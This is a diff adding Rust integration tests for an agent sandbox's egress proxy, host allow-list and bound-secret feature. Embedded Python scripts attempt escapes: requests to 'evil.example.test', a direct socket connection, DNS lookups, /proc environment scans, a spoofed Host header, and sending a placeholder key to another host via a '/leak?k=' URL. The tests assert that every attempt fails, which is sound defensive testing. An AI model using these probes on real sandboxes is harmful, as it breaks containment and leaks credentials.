@@ -1,0 +1,696 @@
+//! The egress proxy and allow-list from inside a sandbox (docs/security.md,
+//! "Egress"): a loopback HTTPS upstream on the host with its own CA (given
+//! to the proxy with `[proxy] ca_file`, its name pointed at it with
+//! `[proxy] resolve`), then attacks from the sandbox — a direct connection,
+//! a proxied request to an unlisted host, DNS, another sandbox reaching for
+//! the proxy, `/proc` — each checked to fail beside a request that works.
+
+mod common;
+
+use std::io::{BufRead, BufReader};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use common::*;
+
+const API: &str = "api.example.test";
+
+/// A Python HTTPS server on the host's loopback with a CA of its own; it
+/// answers "ok" and appends each request's head to `seen`.
+struct Upstream {
+    child: Child,
+    port: u16,
+    dir: tempfile::TempDir,
+}
+
+impl Drop for Upstream {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+const SERVER: &str = r#"
+import http.server, ssl, sys
+d = sys.argv[1]
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        with open(d + "/seen", "a") as f:
+            f.write(self.requestline + "\n" + str(self.headers) + "\n")
+        if self.path == "/redirect":
+            self.send_response(302)
+            self.send_header("Location", "https://other.example.test/landed")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
+        self.send_response(200)
+        self.send_header("Content-Length", "3")
+        self.end_headers()
+        self.wfile.write(b"ok\n")
+    def log_message(self, *a):
+        pass
+s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+c.load_cert_chain(d + "/leaf.pem", d + "/leaf.key")
+s.socket = c.wrap_socket(s.socket, server_side=True)
+print(s.server_address[1], flush=True)
+s.serve_forever()
+"#;
+
+/// Starts `command` and returns it with the first line it prints.
+fn spawn_for_first_line(command: &mut Command) -> (Child, String) {
+    let mut child = command.stdout(Stdio::piped()).spawn().unwrap();
+    let mut line = String::new();
+    BufReader::new(child.stdout.as_mut().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    (child, line)
+}
+
+fn openssl(dir: &Path, args: &[&str]) {
+    let out = Command::new("openssl")
+        .args(args)
+        .current_dir(dir)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "openssl {args:?}: {}", stderr(&out));
+}
+
+fn start_upstream() -> Upstream {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let ec = [
+        "-newkey",
+        "ec",
+        "-pkeyopt",
+        "ec_paramgen_curve:P-256",
+        "-nodes",
+    ];
+    openssl(
+        d,
+        &[
+            &["req", "-x509"][..],
+            &ec,
+            &[
+                "-keyout",
+                "ca.key",
+                "-out",
+                "ca.pem",
+                "-days",
+                "2",
+                "-subj",
+                "/CN=egress test CA",
+                "-addext",
+                "basicConstraints=critical,CA:TRUE",
+                "-addext",
+                "keyUsage=critical,keyCertSign",
+            ],
+        ]
+        .concat(),
+    );
+    openssl(
+        d,
+        &[
+            &["req"][..],
+            &ec,
+            &[
+                "-keyout",
+                "leaf.key",
+                "-out",
+                "leaf.csr",
+                "-subj",
+                "/CN=api.example.test",
+            ],
+        ]
+        .concat(),
+    );
+    std::fs::write(
+        d.join("leaf.ext"),
+        "subjectAltName=DNS:api.example.test,DNS:other.example.test\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n",
+    )
+    .unwrap();
+    openssl(
+        d,
+        &[
+            "x509",
+            "-req",
+            "-in",
+            "leaf.csr",
+            "-CA",
+            "ca.pem",
+            "-CAkey",
+            "ca.key",
+            "-CAcreateserial",
+            "-out",
+            "leaf.pem",
+            "-days",
+            "2",
+            "-extfile",
+            "leaf.ext",
+        ],
+    );
+    let (child, line) =
+        spawn_for_first_line(Command::new("python3").args(["-c", SERVER, d.to_str().unwrap()]));
+    Upstream {
+        port: line.trim().parse().unwrap(),
+        child,
+        dir,
+    }
+}
+
+impl Upstream {
+    fn ca(&self) -> PathBuf {
+        self.dir.path().join("ca.pem")
+    }
+
+    fn seen(&self) -> String {
+        std::fs::read_to_string(self.dir.path().join("seen")).unwrap_or_default()
+    }
+
+    /// A config file: the upstream's CA for the proxy, its name pointed at it.
+    fn config(&self, env: &TestEnv, extra: &str) -> PathBuf {
+        let file = env.home_dir().join("egress.toml");
+        std::fs::write(
+            &file,
+            format!(
+                "[proxy]\nca_file = \"{}\"\nresolve = {{ \"{API}\" = \"127.0.0.1:{}\", \"other.example.test\" = \"127.0.0.1:{}\" }}\n{extra}",
+                self.ca().display(),
+                self.port,
+                self.port
+            ),
+        )
+        .unwrap();
+        file
+    }
+}
+
+/// This test's agentkernel processes running `subcommand` (their
+/// environment names the test's state directory), with their parent PIDs.
+fn processes_of(env: &TestEnv, subcommand: &str) -> Vec<(u32, String)> {
+    let marker = format!("AGENTKERNEL_HOME={}", env.state_dir().display());
+    std::fs::read_dir("/proc")
+        .unwrap()
+        .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok())
+        .filter_map(|pid| {
+            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).ok()?;
+            let environ = std::fs::read(format!("/proc/{pid}/environ")).ok()?;
+            let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+            let ppid = stat.rsplit(") ").next()?.split(' ').nth(1)?.to_string();
+            (String::from_utf8_lossy(&cmdline).contains(subcommand)
+                && environ.split(|b| *b == 0).any(|v| v == marker.as_bytes()))
+            .then_some((pid, ppid))
+        })
+        .collect()
+}
+
+fn proxies_of(env: &TestEnv) -> Vec<u32> {
+    processes_of(env, "__egress-proxy")
+        .into_iter()
+        .map(|(pid, _)| pid)
+        .collect()
+}
+
+/// The holder of this test's kept sandbox: its native helper process that
+/// was reparented (the sandbox's init is its child).
+fn holder_of(env: &TestEnv) -> u32 {
+    processes_of(env, "__native-sandbox")
+        .into_iter()
+        .find(|(_, ppid)| ppid == "1")
+        .expect("the kept sandbox's holder")
+        .0
+}
+
+fn wait_until(limit: Duration, mut done: impl FnMut() -> bool) -> bool {
+    let start = Instant::now();
+    while start.elapsed() < limit {
+        if done() {
+            return true;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    done()
+}
+
+/// A host address that is not loopback (the sandbox's direct target).
+fn host_address() -> String {
+    let out = Command::new("hostname").arg("-I").output().unwrap();
+    stdout(&out)
+        .split_whitespace()
+        .next()
+        .expect("the host has a non-loopback address")
+        .to_string()
+}
+
+/// In the first sandbox: its proxy answers on its loopback; then it stays.
+const FIRST: &str = "import socket, time
+socket.create_connection(('127.0.0.1', 3128), 2)
+print('proxy-here', flush=True)
+time.sleep(30)";
+
+/// In the second sandbox: the same port on its loopback and on its gateway.
+const PROBE: &str = "import socket, struct
+gw = [socket.inet_ntoa(struct.pack('<I', int(f[2], 16))) for f in
+      (l.split() for l in open('/proc/net/route').read().splitlines()[1:]) if f[1] == '00000000'][0]
+for host in ['127.0.0.1', gw]:
+    try:
+        socket.create_connection((host, 3128), 2)
+        print('reached', host)
+    except OSError:
+        print('refused', host)";
+
+mod native_only {
+    use super::*;
+
+    /// With an allow-list: the listed host is reached through the proxy
+    /// (uninspected: the sandbox verifies the upstream itself), an unlisted
+    /// one gets the proxy's 403 naming the flag, and a direct connection, a
+    /// name lookup and the proxy's /proc all fail.
+    #[test]
+    fn with_an_allow_list_only_listed_hosts_are_reachable_and_only_through_the_proxy() {
+        let env = TestEnv::new();
+        let upstream = start_upstream();
+        let config = upstream.config(&env, "");
+        let log = env.project_dir().join("egress.jsonl");
+        let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
+        let direct = format!(
+            "{}:{}",
+            host_address(),
+            listener.local_addr().unwrap().port()
+        );
+        let script = format!(
+            r#"
+import os, socket, ssl, urllib.request
+ctx = ssl.create_default_context(cafile="/upstream-ca.pem")
+print("listed", urllib.request.urlopen("https://{API}/listed", context=ctx, timeout=10).read())
+try:
+    urllib.request.urlopen("https://evil.example.test/", context=ctx, timeout=10)
+except Exception as e:
+    print("unlisted", e)
+try:
+    urllib.request.urlopen("http://evil.example.test/", timeout=10)
+except urllib.error.HTTPError as e:
+    print("unlisted-http", e.code, e.read().decode().strip())
+h, p = "{direct}".rsplit(":", 1)
+try:
+    socket.create_connection((h, int(p)), timeout=3)
+    print("direct CONNECTED")
+except OSError as e:
+    print("direct failed", e.errno)
+try:
+    socket.getaddrinfo("example.com", 443)
+    print("dns RESOLVED")
+except OSError as e:
+    print("dns failed")
+cmdlines = [open("/proc/%s/cmdline" % p, "rb").read() for p in os.listdir("/proc") if p.isdigit()]
+needle = b"__egress" + b"-proxy"  # split: this script's own cmdline must not match
+print("proxy visible" if any(needle in c for c in cmdlines) else "proxy not visible", len(cmdlines) > 0)
+"#
+        );
+        let out = env.run(&[
+            "run",
+            "-c",
+            config.to_str().unwrap(),
+            "--image",
+            PYTHON,
+            "--allow-host",
+            API,
+            "--egress-log",
+            log.to_str().unwrap(),
+            "-v",
+            &format!("{}:/upstream-ca.pem:ro", upstream.ca().display()),
+            "--",
+            "python3",
+            "-c",
+            &script,
+        ]);
+        assert_code(&out, 0);
+        let text = stdout(&out);
+        assert!(text.contains("listed b'ok\\n'"), "{text}");
+        assert!(
+            text.contains("unlisted <urlopen error Tunnel connection failed: 403"),
+            "{text}"
+        );
+        assert!(
+            text.contains("unlisted-http 403 agentkernel: egress to evil.example.test is not allowed; add --allow-host evil.example.test to allow it"),
+            "{text}"
+        );
+        assert!(text.contains("direct failed"), "{text}");
+        assert!(text.contains("dns failed"), "{text}");
+        assert!(text.contains("proxy not visible True"), "{text}");
+        assert!(
+            upstream.seen().contains("GET /listed"),
+            "{}",
+            upstream.seen()
+        );
+        assert!(!upstream.seen().contains("evil"));
+        let log = std::fs::read_to_string(&log).unwrap();
+        assert!(
+            log.lines()
+                .any(|l| l.contains("\"kind\":\"tunnel\"") && l.contains(API)),
+            "{log}"
+        );
+        assert_eq!(
+            log.lines()
+                .filter(|l| l.contains("\"kind\":\"deny\""))
+                .count(),
+            2,
+            "{log}"
+        );
+        // The proxy ends with the run.
+        assert!(wait_until(Duration::from_secs(5), || proxies_of(&env).is_empty()));
+    }
+
+    /// The proxy listens on the first sandbox's own loopback: a second
+    /// sandbox (with a network) and the host find nothing there.
+    #[test]
+    fn another_sandbox_and_the_host_cannot_reach_a_sandbox_proxy() {
+        let env = TestEnv::new();
+        let upstream = start_upstream();
+        let config = upstream.config(&env, "");
+        let (mut first, line) = spawn_for_first_line(
+            env.std_cmd()
+                .args(["run", "-c", config.to_str().unwrap(), "--image", PYTHON])
+                .args(["--allow-host", API, "--", "python3", "-c", FIRST]),
+        );
+        assert_eq!(line.trim(), "proxy-here");
+        assert_eq!(proxies_of(&env).len(), 1);
+        let second = env.run(&["run", "--image", PYTHON, "--", "python3", "-c", PROBE]);
+        assert_code(&second, 0);
+        let text = stdout(&second);
+        assert!(!text.contains("reached"), "{text}");
+        assert_eq!(text.matches("refused").count(), 2, "{text}");
+        assert!(std::net::TcpStream::connect("127.0.0.1:3128").is_err());
+        // kill -9 of the sandbox's owner: the lifeline closes, the proxy exits.
+        let _ = first.kill();
+        let _ = first.wait();
+        assert!(
+            wait_until(Duration::from_secs(10), || proxies_of(&env).is_empty()),
+            "the proxy outlived its sandbox's owner"
+        );
+    }
+
+    /// The value reaches its host as `Authorization: Bearer`, and nothing
+    /// else: not the sandbox (env, files, /proc), not a spoofed Host, not a
+    /// redirect's target, not another host through a placeholder.
+    #[test]
+    fn a_bound_secret_skips_spoofed_hosts_redirects_and_other_hosts() {
+        const VALUE: &str = "sk-e2e-4f1d2c3b5a697887";
+        let env = TestEnv::new();
+        let upstream = start_upstream();
+        let config = upstream.config(&env, "");
+        let binding = format!("API_KEY={VALUE}:{API}");
+        let script = format!(
+            "{INJECTION}\nimport subprocess\n\
+             print('grep', subprocess.run(['grep', '-rlsF', '{VALUE}', '/', '--exclude-dir=sys'], capture_output=True).stdout)"
+        );
+        let out = env.run(&[
+            "run",
+            "-c",
+            config.to_str().unwrap(),
+            "--image",
+            PYTHON,
+            "-S",
+            &binding,
+            "--placeholder-secrets",
+            "-v",
+            &format!("{}:/upstream-ca.pem:ro", upstream.ca().display()),
+            "--",
+            "python3",
+            "-c",
+            &script,
+        ]);
+        assert_code(&out, 0);
+        let text = stdout(&out);
+        for line in [
+            "env True",
+            "urllib b'ok\\n'",
+            "spoofed 421",
+            "redirect b'ok\\n'",
+            "placeholder-elsewhere 403",
+            "grep b''",
+        ] {
+            assert!(text.lines().any(|l| l == line), "no {line:?} in:\n{text}");
+        }
+        let seen = upstream.seen();
+        let requests: Vec<&str> = seen.split("GET ").skip(1).collect();
+        let urllib = requests.iter().find(|r| r.starts_with("/urllib")).unwrap();
+        assert!(
+            urllib.contains(&format!("authorization: Bearer {VALUE}")),
+            "{urllib}"
+        );
+        // The placeholder in the query was swapped for the value (bound host).
+        assert!(
+            urllib.starts_with(&format!("/urllib?k={VALUE} ")),
+            "{urllib}"
+        );
+        let landed = requests.iter().find(|r| r.starts_with("/landed")).unwrap();
+        assert!(!landed.contains(VALUE), "{landed}");
+        assert!(
+            !seen.contains("/spoof") && !seen.contains("/plain"),
+            "{seen}"
+        );
+        // Every request that carries the value went to the bound host.
+        for request in requests.iter().filter(|r| r.contains(VALUE)) {
+            assert!(
+                request
+                    .to_ascii_lowercase()
+                    .contains("host: api.example.test"),
+                "{request}"
+            );
+        }
+    }
+
+    /// A kept sandbox's proxy serves its later commands and ends with its
+    /// holder: on `sandbox rm`, and on `kill -9` of the holder.
+    #[test]
+    fn a_kept_sandboxs_proxy_lives_exactly_as_long_as_the_sandbox() {
+        const REFUSED: &str = "import urllib.request, urllib.error
+try:
+    urllib.request.urlopen('http://evil.example.test/', timeout=10)
+except urllib.error.HTTPError as e:
+    print('refused', e.code)";
+        let env = TestEnv::new();
+        let upstream = start_upstream();
+        let config = upstream.config(&env, "");
+        for name in ["egress-rm", "egress-kill"] {
+            let out = env.run(&[
+                "run",
+                "-c",
+                config.to_str().unwrap(),
+                "--name",
+                name,
+                "--image",
+                PYTHON,
+                "--allow-host",
+                API,
+                "--",
+                "python3",
+                "-c",
+                REFUSED,
+            ]);
+            assert_code(&out, 0);
+            assert_eq!(stdout(&out).trim(), "refused 403");
+            let out = env.run(&["exec", name, "--", "python3", "-c", REFUSED]);
+            assert_code(&out, 0);
+            assert_eq!(stdout(&out).trim(), "refused 403");
+            assert_eq!(proxies_of(&env).len(), 1);
+            // Reusing it with egress options would not apply them: refused.
+            let out = env.run(&[
+                "run",
+                "--branch",
+                "--name",
+                name,
+                "--image",
+                PYTHON,
+                "--allow-host",
+                "x.test",
+                "true",
+            ]);
+            assert_one_line_error(&out);
+            if name == "egress-rm" {
+                assert_code(&env.run(&["sandbox", "rm", name]), 0);
+            } else {
+                let holder = holder_of(&env);
+                // SAFETY: kill(2) of a process this test started.
+                assert_eq!(unsafe { libc::kill(holder as i32, libc::SIGKILL) }, 0);
+            }
+            assert!(
+                wait_until(Duration::from_secs(10), || proxies_of(&env).is_empty()),
+                "{name}: the proxy outlived its sandbox"
+            );
+        }
+    }
+
+    /// `-S` end to end: the upstream gets the real value in the bound
+    /// headers; the sandbox holds only placeholders (its variable, and the
+    /// `--secret-file` with `--placeholder-secrets`); the placeholder aimed
+    /// at another host is refused and that host never sees it; nothing the
+    /// sandbox can read — files from `/`, every process's environment and
+    /// command line — holds the value.
+    #[test]
+    fn a_bound_secret_reaches_its_host_and_never_the_sandbox() {
+        let env = TestEnv::new();
+        let upstream = start_upstream();
+        // One key from `-S`, one from `[secrets]` (upstream's template form).
+        let config = upstream.config(
+            &env,
+            &format!("[secrets]\nHDR_KEY = {{ hosts = [\"{API}\"], header = \"x-api-key\" }}\n"),
+        );
+        let (head, tail) = ("sk-e2e-real-", "6b1f9a");
+        let value = format!("{head}{tail}");
+        let out = env
+            .cmd()
+            .args(["secret", "set", "API_KEY"])
+            .write_stdin(format!("{value}\n"))
+            .output()
+            .unwrap();
+        assert_code(&out, 0);
+        // The script names the value only in two halves, so its own command
+        // line cannot be what the scan finds.
+        let script = format!(
+            r#"
+import os, urllib.request
+key = os.environ["API_KEY"]
+print("env", key.startswith("AGENTKERNEL_PLACEHOLDER_"), len(key))
+print("file", open(os.environ["AGENTKERNEL_SECRETS_PATH"] + "/API_KEY").read() == key)
+req = urllib.request.Request("https://{API}/bound", headers={{"Authorization": "Bearer " + key}})
+print("bound", urllib.request.urlopen(req, timeout=10).read())
+try:
+    urllib.request.urlopen("https://other.example.test/leak?k=" + key, timeout=10)
+    print("leak SENT")
+except Exception as e:
+    print("leak refused")
+needle = b"{head}" + b"{tail}"
+found = []
+for top in os.listdir("/"):
+    if top in ("proc", "sys", "dev"):
+        continue
+    for d, _, files in os.walk("/" + top):
+        for f in files:
+            p = os.path.join(d, f)
+            try:
+                if os.path.isfile(p) and not os.path.islink(p) and needle in open(p, "rb").read():
+                    found.append(p)
+            except OSError:
+                pass
+for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+    for what in ("environ", "cmdline"):
+        try:
+            if needle in open("/proc/%s/%s" % (pid, what), "rb").read():
+                found.append("/proc/%s/%s" % (pid, what))
+        except OSError:
+            pass
+print("found", found)
+"#
+        );
+        // HDR_KEY's value comes from agentkernel's own environment.
+        let out = env
+            .cmd()
+            .env("HDR_KEY", "hdr-e2e-value-3c")
+            .args([
+                "run",
+                "-c",
+                config.to_str().unwrap(),
+                "--image",
+                PYTHON,
+                "-S",
+                &format!("API_KEY:{API}"),
+                "--secret-file",
+                "API_KEY",
+                "--placeholder-secrets",
+                "--",
+                "python3",
+                "-c",
+                &script,
+            ])
+            .output()
+            .unwrap();
+        assert_code(&out, 0);
+        let text = stdout(&out);
+        assert!(text.contains("env True 56"), "{text}");
+        assert!(text.contains("file True"), "{text}");
+        assert!(text.contains("bound b'ok\\n'"), "{text}");
+        assert!(text.contains("leak refused"), "{text}");
+        assert!(text.contains("found []"), "{text}");
+        let seen = upstream.seen().to_ascii_lowercase();
+        assert!(
+            seen.contains(&format!("authorization: bearer {value}")),
+            "{seen}"
+        );
+        assert!(seen.contains("x-api-key: hdr-e2e-value-3c"), "{seen}");
+        assert!(!seen.contains("/leak"), "{seen}");
+        assert!(!seen.contains("agentkernel_placeholder_"), "{seen}");
+        assert!(wait_until(Duration::from_secs(5), || proxies_of(&env).is_empty()));
+    }
+
+    #[test]
+    fn bad_egress_options_are_one_line_errors() {
+        let env = TestEnv::new();
+        for (args, needle) in [
+            (vec!["--allow-host", "bad host"], "--allow-host"),
+            (vec!["--allow-host", "example.com:0"], "bad port"),
+            (
+                vec!["--allow-host", "example.com", "--no-network"],
+                "need a network",
+            ),
+            (
+                vec!["--allow-host", "example.com", "-P", "8080:80"],
+                "--publish",
+            ),
+        ] {
+            let out = env.run(&[&["run"][..], &args, &["--image", BUSYBOX, "true"]].concat());
+            let line = assert_one_line_error(&out);
+            assert!(line.contains(needle), "{args:?}: {line}");
+            assert!(env.leftover_runs().is_empty(), "{args:?}");
+            assert!(proxies_of(&env).is_empty(), "{args:?}");
+        }
+    }
+}
+
+/// Inside a sandbox with `-S API_KEY=…:api.example.test`: Python's urllib
+/// (the test images have neither curl nor node; curl is driven through the
+/// proxy in agentkernel-egress's own tests) through the proxy.
+const INJECTION: &str = r#"
+import os, ssl, urllib.request, urllib.error
+# The system bundle (with the proxy's CA, via SSL_CERT_FILE) plus the test
+# upstream's own CA, for the redirect's unbound host (tunnelled, so the
+# sandbox verifies it itself).
+ctx = ssl.create_default_context()
+ctx.load_verify_locations("/upstream-ca.pem")
+urllib.request.install_opener(urllib.request.build_opener(urllib.request.HTTPSHandler(context=ctx)))
+ph = os.environ["API_KEY"]
+print("env", ph.startswith("AGENTKERNEL_PLACEHOLDER_"))
+print("urllib", urllib.request.urlopen("https://api.example.test/urllib?k=" + ph, timeout=10).read())
+r = urllib.request.Request("https://api.example.test/spoof", headers={"Host": "other.example.test"})
+try:
+    urllib.request.urlopen(r, timeout=10)
+except urllib.error.HTTPError as e:
+    print("spoofed", e.code)
+print("redirect", urllib.request.urlopen("https://api.example.test/redirect", timeout=10).read())
+try:
+    urllib.request.urlopen("http://other.example.test/plain?k=" + ph, timeout=10)
+except urllib.error.HTTPError as e:
+    print("placeholder-elsewhere", e.code)
+"#;
+
+mod engine_only {
+    use super::*;
+
+    /// Docker and Podman cannot yet give a proxy that only their sandbox
+    /// reaches: egress options are refused, never run without it.
+    #[test]
+    fn egress_options_are_refused_fail_closed() {
+        let env = TestEnv::new();
+        for args in [
+            vec!["--allow-host", "example.com"],
+            vec!["--egress-log", "x.jsonl"],
+            vec!["-S", "K=v:example.com"],
+        ] {
+            let out = env.run(&[&["run"][..], &args, &["--image", BUSYBOX, "true"]].concat());
+            let line = assert_one_line_error(&out);
+            assert!(line.contains("egress proxy"), "{line}");
+            assert!(env.labelled_containers(None).is_empty());
+        }
+    }
+}
